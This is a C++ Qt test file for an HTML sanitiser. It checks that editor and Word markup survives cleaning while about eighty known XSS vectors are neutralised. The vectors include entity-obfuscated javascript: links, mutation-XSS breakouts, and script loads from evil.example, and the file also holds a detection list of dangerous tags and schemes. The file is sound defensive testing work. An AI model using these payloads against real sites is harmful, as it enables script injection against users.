// The HTML sanitiser against known XSS vectors (OWASP cheat-sheet style) and against real editor/Word markup.
// Safety is judged by re-parsing the output with gumbo the way a browser would, not by string matching alone.
#include "sanitize/HtmlSanitizer.h"
#include "sanitize/UrlFilter.h"

#include <QSet>
#include <QTest>

#include <gumbo.h>

using namespace Qt::StringLiterals;
using pd::server::HtmlSanitizer;
using pd::server::SanitizePolicy;
using pd::server::UrlFilter;

namespace {

const QSet<QByteArray> kAllowedElements = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption",
    "thead", "tbody", "tfoot", "tr", "th", "td", "a", "img", "figure", "figcaption", "strong", "em", "b", "i",
    "u", "sub", "sup", "br", "hr", "blockquote", "span", "pre", "code"};
const QSet<QByteArray> kAllowedAttributes = {"class", "title", "lang", "dir", "align", "href", "target", "rel",
                                             "src", "alt", "width", "height", "colspan", "rowspan", "scope",
                                             "start", "type", "reversed", "value", "cite"};

/// Walks the re-parsed output and records every construct that could run script or load foreign content.
void collectProblems(const GumboNode *node, QStringList &problems)
{
    if (node->type == GUMBO_NODE_COMMENT)
        problems << u"comment survived"_s;
    if (node->type == GUMBO_NODE_TEMPLATE)
        problems << u"template survived"_s;
    if (node->type != GUMBO_NODE_ELEMENT)
        return;
    const GumboElement &e = node->v.element;
    const QByteArray tag = e.tag == GUMBO_TAG_UNKNOWN ? QByteArray(e.original_tag.data, qsizetype(e.original_tag.length))
                                                      : QByteArray(gumbo_normalized_tagname(e.tag));
    if (e.tag_namespace != GUMBO_NAMESPACE_HTML)
        problems << u"foreign element %1"_s.arg(QString::fromUtf8(tag));
    if (!kAllowedElements.contains(tag))
        problems << u"element <%1>"_s.arg(QString::fromUtf8(tag));
    for (unsigned i = 0; i < e.attributes.length; ++i) {
        const auto *a = static_cast<const GumboAttribute *>(e.attributes.data[i]);
        const QByteArray name = QByteArray(a->name).toLower();
        const QString value = QString::fromUtf8(a->value);
        if (!kAllowedAttributes.contains(name) || name.startsWith("on"))
            problems << u"attribute %1 on <%2>"_s.arg(QString::fromUtf8(name), QString::fromUtf8(tag));
        if (name == "href" || name == "cite" || name == "src") {
            const QString scheme = UrlFilter::scheme(UrlFilter::browserNormalised(value));
            if (!scheme.isEmpty() && scheme != u"http"_s && scheme != u"https"_s && scheme != u"mailto"_s)
                problems << u"%1 with scheme %2"_s.arg(QString::fromUtf8(name), scheme);
        }
        if (name == "src" && !value.startsWith(u"/media/"_s))
            problems << u"image from outside the site's media: %1"_s.arg(value);
    }
    for (unsigned i = 0; i < e.children.length; ++i)
        collectProblems(static_cast<const GumboNode *>(e.children.data[i]), problems);
}

QStringList problemsIn(const QString &html)
{
    const QByteArray utf8 = html.toUtf8();
    GumboOptions options = kGumboDefaultOptions;
    options.fragment_context = GUMBO_TAG_BODY;
    options.fragment_namespace = GUMBO_NAMESPACE_HTML;
    GumboOutput *out = gumbo_parse_with_options(&options, utf8.constData(), size_t(utf8.size()));
    QStringList problems;
    const GumboVector &top = out->root->v.element.children;
    for (unsigned i = 0; i < top.length; ++i)
        collectProblems(static_cast<const GumboNode *>(top.data[i]), problems);
    gumbo_destroy_output(&options, out);
    // Belt and braces on the raw text, independent of how gumbo reads it.
    const QString lower = html.toLower();
    for (const QString &needle : {u"<script"_s, u"<iframe"_s, u"<svg"_s, u"<math"_s, u"<object"_s, u"<embed"_s,
                                  u"<style"_s, u"<form"_s, u"<base"_s, u"<meta"_s, u"<link"_s, u"<template"_s,
                                  u"<noscript"_s, u"<!--"_s, u"javascript:"_s, u"vbscript:"_s, u"data:"_s}) {
        if (lower.contains(needle))
            problems << u"raw text contains %1"_s.arg(needle);
    }
    return problems;
}

QString clean(const QString &html, const SanitizePolicy &policy = SanitizePolicy::defaults())
{
    const auto r = HtmlSanitizer(policy).sanitize(html);
    if (!r) {
        qWarning() << "sanitize failed:" << r.error().message;
        return u"<<failed>>"_s;
    }
    return *r;
}

} // namespace

class tst_Sanitizer : public QObject
{
    Q_OBJECT

private slots:
    void checkerDetectsAttacks();
    void xssVectors_data();
    void xssVectors();
    void keepsWordTable();
    void keepsListsAndHeadings();
    void linksAndRel();
    void imagesOnlyFromMedia();
    void classAllowList();
    void escaping();
    void preLeadingNewline();
    void unknownElementsKeepText();
    void urlFilter_data();
    void urlFilter();
    void limits();
    void emptyInput();
};

void tst_Sanitizer::checkerDetectsAttacks()
{
    // The judge itself must be able to say no, or every vector below would pass vacuously.
    QVERIFY(!problemsIn(u"<img src=x onerror=alert(1)>"_s).isEmpty());
    QVERIFY(!problemsIn(u"<a href=\"jav&#x09;ascript:alert(1)\">x</a>"_s).isEmpty());
    QVERIFY(!problemsIn(u"<svg><g/></svg>"_s).isEmpty());
    QVERIFY(!problemsIn(u"<p style=\"x\">x</p>"_s).isEmpty());
    QVERIFY(problemsIn(u"<p class=\"lead\"><a href=\"/x\">x</a></p>"_s).isEmpty());
}

void tst_Sanitizer::xssVectors_data()
{
    QTest::addColumn<QString>("html");
    // Each row is a known attack; the test asserts the output holds nothing executable and is stable on re-sanitising.
    QTest::newRow("script") << u"<script>alert(1)</script><p>ok</p>"_s;
    QTest::newRow("script-src") << u"<script src=\"http://evil.example/x.js\"></script>"_s;
    QTest::newRow("script-uppercase") << u"<SCRIPT>alert('XSS')</SCRIPT>"_s;
    QTest::newRow("script-unclosed") << u"<script>alert(1)"_s;
    QTest::newRow("script-split") << u"<scr<script>ipt>alert(1)</scr</script>ipt>"_s;
    QTest::newRow("img-onerror") << u"<img src=x onerror=alert(1)>"_s;
    QTest::newRow("img-onerror-media") << u"<img src=\"/media/1/a.png\" onerror=\"alert(1)\" alt=\"a\">"_s;
    QTest::newRow("img-javascript-src") << u"<img src=\"javascript:alert('XSS');\">"_s;
    QTest::newRow("img-no-quotes-backtick") << u"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"_s;
    QTest::newRow("img-dynsrc") << u"<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">"_s;
    QTest::newRow("img-srcset") << u"<img src=\"/media/1/a.png\" srcset=\"javascript:alert(1) 2x\">"_s;
    QTest::newRow("svg-onload") << u"<svg onload=alert(1)><circle r=1></circle></svg>"_s;
    QTest::newRow("svg-script") << u"<svg><script>alert(1)</script></svg>"_s;
    QTest::newRow("svg-animate-href") << u"<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>"_s;
    QTest::newRow("svg-use-data") << u"<svg><use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/></svg>"_s;
    QTest::newRow("math-href") << u"<math><mtext><a href=\"javascript:alert(1)\">x</a></mtext></math>"_s;
    QTest::newRow("math-mglyph-style") << u"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"_s;
    QTest::newRow("a-javascript") << u"<a href=\"javascript:alert(1)\">click</a>"_s;
    QTest::newRow("a-javascript-mixed-case") << u"<a href=\"jAvAsCrIpT:alert(1)\">click</a>"_s;
    QTest::newRow("a-javascript-entities-dec") << u"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-entities-hex") << u"<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-entities-padded") << u"<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-tab") << u"<a href=\"jav\tascript:alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-encoded-tab") << u"<a href=\"jav&#x09;ascript:alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-newline") << u"<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-cr") << u"<a href=\"jav&#x0D;ascript:alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-leading-space") << u"<a href=\" &#14;  javascript:alert(1)\">x</a>"_s;
    QTest::newRow("a-javascript-colon-entity") << u"<a href=\"javascript&colon;alert(1)\">x</a>"_s;
    QTest::newRow("a-vbscript") << u"<a href=\"vbscript:msgbox(1)\">x</a>"_s;
    QTest::newRow("a-data-html") << u"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"_s;
    QTest::newRow("a-onmouseover") << u"<a href=\"/ok\" onmouseover=\"alert(1)\">x</a>"_s;
    QTest::newRow("iframe-src") << u"<iframe src=\"javascript:alert(1)\"></iframe>"_s;
    QTest::newRow("iframe-srcdoc") << u"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"_s;
    QTest::newRow("frameset") << u"<frameset><frame src=\"javascript:alert(1)\"></frameset>"_s;
    QTest::newRow("style-import") << u"<style>@import 'http://evil.example/xss.css';</style><p>x</p>"_s;
    QTest::newRow("style-attribute-expression") << u"<p style=\"width: expression(alert(1))\">x</p>"_s;
    QTest::newRow("style-attribute-url") << u"<div style=\"background-image: url(javascript:alert(1))\">x</div>"_s;
    QTest::newRow("link-stylesheet") << u"<link rel=\"stylesheet\" href=\"javascript:alert(1)\">"_s;
    QTest::newRow("meta-refresh") << u"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">"_s;
    QTest::newRow("base-href") << u"<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>"_s;
    QTest::newRow("form-action") << u"<form action=\"javascript:alert(1)\"><input type=submit></form>"_s;
    QTest::newRow("button-formaction") << u"<button formaction=\"javascript:alert(1)\">x</button>"_s;
    QTest::newRow("input-autofocus") << u"<input onfocus=alert(1) autofocus>"_s;
    QTest::newRow("object-data") << u"<object data=\"javascript:alert(1)\"></object>"_s;
    QTest::newRow("object-param") << u"<object type=\"application/x-shockwave-flash\"><param name=\"src\" value=\"x.swf\"></object>"_s;
    QTest::newRow("embed") << u"<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"_s;
    QTest::newRow("body-onload") << u"<body onload=alert(1)><p>x</p></body>"_s;
    QTest::newRow("details-ontoggle") << u"<details open ontoggle=alert(1)><summary>s</summary></details>"_s;
    QTest::newRow("marquee-onstart") << u"<marquee onstart=alert(1)>x</marquee>"_s;
    QTest::newRow("video-source-onerror") << u"<video><source onerror=\"alert(1)\"></video>"_s;
    QTest::newRow("audio-src") << u"<audio src=x onerror=alert(1)>"_s;
    QTest::newRow("table-background") << u"<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>"_s;
    QTest::newRow("td-background") << u"<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>"_s;
    QTest::newRow("noscript-mxss") << u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"_s;
    QTest::newRow("template") << u"<template><script>alert(1)</script></template><p>t</p>"_s;
    QTest::newRow("comment-conditional") << u"<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x</p>"_s;
    QTest::newRow("comment-breakout") << u"<!--><img src=x onerror=alert(1)>-->"_s;
    QTest::newRow("cdata") << u"<![CDATA[<script>alert(1)</script>]]><p>x</p>"_s;
    QTest::newRow("xmp-breakout") << u"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>"_s;
    QTest::newRow("textarea-breakout") << u"<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"_s;
    QTest::newRow("title-breakout") << u"<title><img src=x onerror=alert(1)></title>"_s;
    QTest::newRow("plaintext") << u"<plaintext><script>alert(1)</script>"_s;
    QTest::newRow("nested-a-mxss") << u"<a href=\"/a\"><a href=\"javascript:alert(1)\">x</a></a>"_s;
    QTest::newRow("table-foster-mxss") << u"<table><tr><td>a</td></tr><img src=x onerror=alert(1)><script>alert(1)</script></table>"_s;
    QTest::newRow("form-in-table-mxss") << u"<table><form><tr><td><input onfocus=alert(1)></td></tr></form></table>"_s;
    QTest::newRow("svg-style-mxss") << u"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"_s;
    QTest::newRow("select-mxss") << u"<select><template><style><!--</style><a rel=\"--></style><img src=x onerror=alert(1)>\"></a></template></select>"_s;
    QTest::newRow("unclosed-img") << u"<img src=\"x\" onerror=\"alert(1)\""_s;
    QTest::newRow("unclosed-attr") << u"<p title=\"<script>alert(1)</script>"_s;
    QTest::newRow("extraneous-open-bracket") << u"<<script>alert(\"XSS\");//<</script>"_s;
    QTest::newRow("half-open-iframe") << u"<iframe src=http://evil.example/scriptlet.html <"_s;
    QTest::newRow("null-byte-script") << u"<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(1)>"_s;
    QTest::newRow("attribute-breakout") << u"<p title=\"a\" onclick=\"alert(1)\" \"x\">p</p>"_s;
    QTest::newRow("quote-breakout") << u"<span class='lead\" onclick=\"alert(1)'>x</span>"_s;
    QTest::newRow("custom-element-event") << u"<x-foo onclick=alert(1) href=javascript:alert(1)>x</x-foo>"_s;
    QTest::newRow("word-namespaced") << u"<o:p onclick=alert(1)></o:p><v:shape><v:imagedata src=\"javascript:alert(1)\"/></v:shape>"_s;
    QTest::newRow("blockquote-cite") << u"<blockquote cite=\"javascript:alert(1)\">q</blockquote>"_s;
    QTest::newRow("image-tag") << u"<image src=x onerror=alert(1)>"_s;
    QTest::newRow("isindex") << u"<isindex type=image src=1 onerror=alert(1)>"_s;
    QTest::newRow("id-clobbering") << u"<p id=\"location\" name=\"cookie\">x</p>"_s;
    QTest::newRow("protocol-relative-img") << u"<img src=\"//evil.example/x.png\">"_s;
    QTest::newRow("media-traversal-img") << u"<img src=\"/media/../admin/x.png\"><img src=\"/media/%2e%2e/x.png\">"_s;
    QTest::newRow("data-img") << u"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"_s;
}

void tst_Sanitizer::xssVectors()
{
    QFETCH(QString, html);
    const QString out = clean(html);
    QVERIFY2(out != u"<<failed>>"_s, qPrintable(html));
    const QStringList problems = problemsIn(out);
    QVERIFY2(problems.isEmpty(), qPrintable(u"%1\n  -> %2\n  problems: %3"_s.arg(html, out, problems.join(u"; "_s))));
    // Mutation XSS lives in markup that changes meaning when parsed again: the output must be a fixed point.
    QCOMPARE(clean(out), out);
}

void tst_Sanitizer::keepsWordTable()
{
    const QString word =
        u"<table class=\"MsoTableGrid\" border=\"1\" style=\"border-collapse:collapse\">"
        u"<thead><tr><th colspan=\"2\" style=\"mso-yfti-firstrow:yes\">项目</th><th>金额（万元）</th></tr></thead>"
        u"<tbody><tr><td rowspan=\"2\" width=\"100\"><p class=\"MsoNormal\"><span lang=\"EN-US\">1</span></p></td>"
        u"<td>道路改造<o:p></o:p></td><td align=\"right\">1,200</td></tr>"
        u"<tr><td>排水管网</td><td>860</td></tr></tbody></table>"_s;
    const QString out = clean(word);
    QVERIFY2(problemsIn(out).isEmpty(), qPrintable(out));
    QCOMPARE(out,
             u"<table><thead><tr><th colspan=\"2\">项目</th><th>金额（万元）</th></tr></thead>"
             u"<tbody><tr><td rowspan=\"2\"><p><span lang=\"EN-US\">1</span></p></td>"
             u"<td>道路改造</td><td align=\"right\">1,200</td></tr>"
             u"<tr><td>排水管网</td><td>860</td></tr></tbody></table>"_s);
    // Silly spans are clamped, not trusted.
    QCOMPARE(clean(u"<table><tr><td colspan=\"99999\" rowspan=\"-1\">x</td></tr></table>"_s),
             u"<table><tbody><tr><td>x</td></tr></tbody></table>"_s);
}

void tst_Sanitizer::keepsListsAndHeadings()
{
    const QString html = u"<h2>一、总体要求</h2><p>坚持以人民为中心。</p>"
                         u"<ol start=\"3\" type=\"a\"><li>第一项<ul><li>子项</li></ul></li><li value=\"7\">第二项</li></ol>"
                         u"<dl><dt>索引号</dt><dd>11441700007280420Y/2021-00050</dd></dl>"
                         u"<blockquote cite=\"https://www.gov.cn/\"><p>引文</p></blockquote>"
                         u"<h3>二、<strong>主要</strong><em>任务</em></h3><p>H<sub>2</sub>O, m<sup>2</sup>, <b>b</b><i>i</i><u>u</u><br>下一行</p><hr>"_s;
    QCOMPARE(clean(html), html);
    // Sectioning elements keep their block boundary as <div>.
    QCOMPARE(clean(u"<section><p>a</p></section><article>b</article>"_s), u"<div><p>a</p></div><div>b</div>"_s);
}

void tst_Sanitizer::linksAndRel()
{
    SanitizePolicy policy = SanitizePolicy::defaults();
    policy.siteHosts = {u"www.example.gov.cn"_s};
    QCOMPARE(clean(u"<a href=\"https://www.gov.cn/zhengce/\">国务院</a>"_s, policy),
             u"<a href=\"https://www.gov.cn/zhengce/\" rel=\"noopener noreferrer\">国务院</a>"_s);
    QCOMPARE(clean(u"<a href=\"https://WWW.example.gov.cn/a.html\" target=\"_blank\">本站</a>"_s, policy),
             u"<a href=\"https://WWW.example.gov.cn/a.html\" target=\"_blank\">本站</a>"_s);
    QCOMPARE(clean(u"<a href=\"/items/12.html\">相关</a>"_s, policy), u"<a href=\"/items/12.html\">相关</a>"_s);
    QCOMPARE(clean(u"<a href=\"mailto:xxgk@example.gov.cn\">信箱</a>"_s, policy),
             u"<a href=\"mailto:xxgk@example.gov.cn\">信箱</a>"_s);
    QCOMPARE(clean(u"<a href=\"//evil.example/\">x</a>"_s, policy),
             u"<a href=\"//evil.example/\" rel=\"noopener noreferrer\">x</a>"_s);
    QCOMPARE(clean(u"<a href=\"\\\\evil.example\\x\">x</a>"_s, policy),
             u"<a href=\"//evil.example/x\" rel=\"noopener noreferrer\">x</a>"_s);
    // A refused link keeps its text; a link without href is just text.
    QCOMPARE(clean(u"<p><a href=\"javascript:alert(1)\">点击</a>查看</p>"_s, policy), u"<p>点击查看</p>"_s);
    QCOMPARE(clean(u"<a name=\"top\">顶部</a>"_s, policy), u"顶部"_s);
    QCOMPARE(clean(u"<a href=\"ftp://files.example/\">f</a>"_s, policy), u"f"_s);
}

void tst_Sanitizer::imagesOnlyFromMedia()
{
    QCOMPARE(clean(u"<figure class=\"image\"><img alt=\"会场\" src=\"/media/42/huichang.jpg\" width=\"800\" height=\"600\" "
                   u"style=\"float:left\"><figcaption>会议现场</figcaption></figure>"_s),
             u"<figure class=\"image\"><img src=\"/media/42/huichang.jpg\" alt=\"会场\" width=\"800\" height=\"600\">"
             u"<figcaption>会议现场</figcaption></figure>"_s);
    QCOMPARE(clean(u"<p>a<img src=\"https://evil.example/t.gif\">b</p>"_s), u"<p>ab</p>"_s);
    QCOMPARE(clean(u"<img alt=\"无源\">"_s), QString());
    QCOMPARE(clean(u"<img src=\"/media/1/x.png\" width=\"100%\" height=\"0\">"_s), u"<img src=\"/media/1/x.png\">"_s);
    SanitizePolicy cdn = SanitizePolicy::defaults();
    cdn.mediaPrefixes = {u"https://static.example.gov.cn/media/"_s};
    QCOMPARE(clean(u"<img src=\"https://static.example.gov.cn/media/9/a.png\">"_s, cdn),
             u"<img src=\"https://static.example.gov.cn/media/9/a.png\">"_s);
    QCOMPARE(clean(u"<img src=\"/media/9/a.png\">"_s, cdn), QString());
}

void tst_Sanitizer::classAllowList()
{
    QCOMPARE(clean(u"<p class=\"MsoNormal text-center  lead text-center\">x</p>"_s),
             u"<p class=\"text-center lead\">x</p>"_s);
    QCOMPARE(clean(u"<p class=\"MsoNormal\">x</p>"_s), u"<p>x</p>"_s);
    QCOMPARE(clean(u"<span class=\"MsoHyperlink\">x</span>"_s), u"x"_s);
}

void tst_Sanitizer::escaping()
{
    QCOMPARE(clean(u"<p>a &lt; b &amp;&amp; c &gt; d</p>"_s), u"<p>a &lt; b &amp;&amp; c &gt; d</p>"_s);
    QCOMPARE(clean(u"<p>1 < 2 & 3</p>"_s), u"<p>1 &lt; 2 &amp; 3</p>"_s);
    QCOMPARE(clean(u"<p title='say \"hi\" &amp; <bye>'>x</p>"_s),
             u"<p title=\"say &quot;hi&quot; &amp; &lt;bye&gt;\">x</p>"_s);
    QCOMPARE(clean(u"<p>全角　空格&nbsp;保留</p>"_s), u"<p>全角　空格&nbsp;保留</p>"_s);
    QCOMPARE(clean(u"<p>&#x1F600; 😀 &copy;</p>"_s), u"<p>😀 😀 ©</p>"_s);
    // Controls smuggled in as character references would not survive a re-parse unchanged: they go.
    QCOMPARE(clean(u"<p title=\"a&#x01;b\">a&#x02;b&#x0D;c&#xFFFE;d\u0085e</p>"_s), u"<p title=\"ab\">abcd\uFFFDe</p>"_s);
}

void tst_Sanitizer::preLeadingNewline()
{
    QCOMPARE(clean(u"<pre>\n\ncode</pre>"_s), u"<pre>\n\ncode</pre>"_s);
    QCOMPARE(clean(u"<pre>\ncode</pre>"_s), u"<pre>code</pre>"_s);
    QCOMPARE(clean(clean(u"<pre>\n\n  x</pre>"_s)), clean(u"<pre>\n\n  x</pre>"_s));
}

void tst_Sanitizer::unknownElementsKeepText()
{
    QCOMPARE(clean(u"<p><font color=\"red\" face=\"宋体\">红字</font><del>删</del><small>小</small></p>"_s),
             u"<p>红字删小</p>"_s);
    QCOMPARE(clean(u"<p>正文<o:p></o:p></p>"_s), u"<p>正文</p>"_s);
}

void tst_Sanitizer::urlFilter_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("allowed");
    QTest::newRow("http") << u"http://www.gov.cn/"_s << true;
    QTest::newRow("https-upper") << u"HTTPS://www.gov.cn/"_s << true;
    QTest::newRow("relative") << u"../a/b.html"_s << true;
    QTest::newRow("fragment") << u"#top"_s << true;
    QTest::newRow("query-colon") << u"/search?q=a:b"_s << true;
    QTest::newRow("javascript") << u"javascript:alert(1)"_s << false;
    QTest::newRow("javascript-ws") << u"\u0001 java\nscript:alert(1)"_s << false;
    QTest::newRow("vbscript") << u"VBScript:x"_s << false;
    QTest::newRow("data") << u"data:text/html,x"_s << false;
    QTest::newRow("file") << u"file:///etc/passwd"_s << false;
    QTest::newRow("colon-first-segment") << u"1javascript:x"_s << false;
    QTest::newRow("empty") << u"  "_s << false;
    QTest::newRow("http-no-host") << u"http:evil"_s << false;
}

void tst_Sanitizer::urlFilter()
{
    QFETCH(QString, url);
    QFETCH(bool, allowed);
    const SanitizePolicy policy = SanitizePolicy::defaults();
    QCOMPARE(UrlFilter(policy).link(url).has_value(), allowed);
}

void tst_Sanitizer::limits()
{
    SanitizePolicy policy = SanitizePolicy::defaults();
    // Deep nesting is refused before gumbo spends quadratic time on it.
    const QString deep = u"<div>"_s.repeated(5000);
    QVERIFY(HtmlSanitizer::estimateNestingDepth(deep) >= 5000);
    const auto refused = HtmlSanitizer(policy).sanitize(deep);
    QVERIFY(!refused);
    QCOMPARE(refused.error().code, pd::ErrorCode::Validation);
    // Unmatched end tags must not lower the estimate.
    QVERIFY(HtmlSanitizer::estimateNestingDepth(u"<div></span>"_s.repeated(1000)) >= 1000);
    // Well-formed, long but flat documents are fine: closed and implicitly closed elements do not count.
    const QString flat = u"<p>段落<b>粗</b></p><li>项</li><br><img src=/media/1/a.png>"_s.repeated(3000);
    QVERIFY(HtmlSanitizer::estimateNestingDepth(flat) <= 2);
    QVERIFY(HtmlSanitizer(policy).sanitize(flat).has_value());
    policy.maxInputBytes = 1000;
    const auto big = HtmlSanitizer(policy).sanitize(u"<p>x</p>"_s.repeated(200));
    QVERIFY(!big);
    QCOMPARE(big.error().code, pd::ErrorCode::TooLarge);
}

void tst_Sanitizer::emptyInput()
{
    QCOMPARE(clean(QString()), QString());
    QCOMPARE(clean(u"   "_s), u"   "_s);
    QCOMPARE(clean(u"纯文本"_s), u"纯文本"_s);
}

QTEST_GUILESS_MAIN(tst_Sanitizer)
#include "tst_sanitizer.moc"
